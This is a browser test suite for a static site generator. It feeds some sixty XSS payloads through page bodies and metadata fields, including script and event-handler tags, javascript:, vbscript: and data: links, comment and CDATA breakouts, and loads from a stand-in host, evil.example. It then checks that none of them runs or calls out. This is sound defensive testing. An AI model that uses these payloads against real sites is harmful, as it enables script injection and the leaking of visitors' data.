"""Hostile content renders inert: no script runs, nothing leaves the host."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from building import build_site
from paths import REPOSITORY
from sources import source, write, write_catalogue

pytestmark = pytest.mark.browser

RUN = "window.owned=1"
BODIES = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script\n>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    '<script src="https://evil.example/x.js"></script>',
    f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    '<embed src="https://evil.example/x.swf">',
    f"<details open ontoggle={RUN}>甲</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<video><source onerror={RUN}></video>",
    '<video src="https://evil.example/x.mp4" autoplay></video>',
    f"<marquee onstart={RUN}>甲</marquee>",
    f"<a href=\"javascript:{RUN}\" id=click>甲</a>",
    f"[甲](javascript:{RUN})",
    f"[甲](JaVaScRiPt:{RUN})",
    f"[甲](java&#115;cript:{RUN})",
    f"[甲](java&Tab;script:{RUN})",
    f"[甲](&#1;javascript:{RUN})",
    f"<javascript:{RUN}>",
    "[甲](data:text/html;base64,PHNjcmlwdD5wYXJlbnQub3duZWQ9MTwvc2NyaXB0Pg==)",
    f"[甲](vbscript:{RUN})",
    "![甲](https://evil.example/x.png)",
    '<img src="//evil.example/x.png">',
    '<img srcset="https://evil.example/x.png 1x">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="background:url(https://evil.example/x.png)">甲</p>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    f'<form action="javascript:{RUN}"><button id=click>甲</button></form>',
    f"<table background=\"javascript:{RUN}\"><tr><td onclick={RUN}>甲</td></tr></table>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><script>{RUN}</script> -->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<textarea><img title=\"</textarea><img src=x onerror={RUN}>\">",
    f"`<script>{RUN}</script>`",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f"| 甲 | <img src=x onerror={RUN}> |\n|---|---|\n| <script>{RUN}</script> | 乙 |",
    f"甲[^1]\n\n[^1]: <script>{RUN}</script>",
    f"# <img src=x onerror={RUN}>",
    f"[^\"><script>{RUN}</script>]: 甲",
    f'[甲](x.pdf "\\"onmouseover={RUN}")',
    "</div></article></main><script>window.owned=1</script>",
]  # fmt: skip
TEXTS = [
    f"</title><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</script><script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    "{{ 7 * 7 }}{% raw %}",
    f"<!--<script>{RUN}</script>",
    "SLOTxMAINx SLOTxHEADx",
]
"""For every place of the front matter that a page prints."""


TOUCH_EVERYTHING = """() => {
  document.addEventListener('click', event => {
    const link = event.target.closest('a');
    if (link ? link.protocol !== 'javascript:' : event.target.closest('[role=search]')) event.preventDefault();
  }, true);
  for (const element of document.querySelectorAll('main *'))
    for (const kind of ['click', 'mouseover', 'focus', 'toggle'])
      element.dispatchEvent(new Event(kind, {bubbles: true, cancelable: true}));
  return [...document.links].filter(a => /^(javascript|vbscript|data):/.test(a.protocol)).length;
}"""


def library() -> dict[str, str | bytes]:
    files: dict[str, str | bytes] = {
        f"policy/2020/b{n}.md": source(body) for n, body in enumerate(BODIES)
    }
    for n, text in enumerate(TEXTS):
        files[f"policy/2020/t{n}.md"] = source(
            "正文",
            title=f"标题{text}",
            summary=text,
            keywords=[text],
            source=text,
            reg_no=text,
            genre=text,
            doc_no=f"{text}{n}",
            issuer=f"机关{text}",
            publisher=f"机构{text}",
            joint_issuers=[f"联合{text}"],
            topic=f"主题{text}",
            relations={"related": [f"《{text}》"]},
        )
        files[f"service/2020/s{n}.md"] = source(
            "正文",
            doc_no=...,
            object=text,
            conditions=[text],
            steps=[text],
            online=f"javascript:{RUN}",
            materials=[{"name": text, "form": text}],
        )
        files[f"response/2020/r{n}.md"] = source("正文", doc_no=..., question=text, organ=text)
    files["page.md"] = "\n\n".join(["# 手写页", *BODIES])
    return files


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    content = write(folder / "content", library())
    build_site(folder / "site", content, write_catalogue(folder / "catalogue"), stop=False)
    assert len(list((folder / "site").rglob("b*.html"))) == len(BODIES)
    return folder / "site"


def test_there_are_enough_payloads() -> None:
    assert len(BODIES) + len(TEXTS) >= 40
    assert REPOSITORY.is_dir()


def test_hostile_content_runs_nothing_and_asks_nobody(
    hostile_site: Path, serve: Callable, watched: Callable
) -> None:
    """Without the content policy, so that it is the pages that are harmless, not the header."""
    root = serve(hostile_site, policy=None)
    tab = watched()
    tab.page.route("**/evil.example/**", lambda route: route.abort())
    for path in sorted(hostile_site.rglob("*.html")):
        address = path.relative_to(hostile_site).as_posix()
        tab.page.goto(f"{root}/{address}", wait_until="load")
        assert tab.page.evaluate(TOUCH_EVERYTHING) == 0, address
        assert tab.page.evaluate("window.owned") is None, address
        assert [r for r in tab.foreign if "evil" in r] == [], address
        assert tab.page.url.startswith(root), address
        assert tab.page.locator("h1").count() == 1, address
        foreign = "main script, main iframe, main object, main form:not([role=search]), main [onerror], main style"
        assert tab.page.locator(foreign).count() == 0, address


def test_titles_are_shown_as_text(hostile_site: Path, serve: Callable, watched: Callable) -> None:
    tab = watched()
    for n, text in enumerate(TEXTS):
        tab.page.goto(f"{serve(hostile_site)}/policy/2020/t{n}.html")
        assert tab.page.locator("h1").inner_text() == f"标题{text}"
        assert tab.page.title().startswith(f"标题{text}")
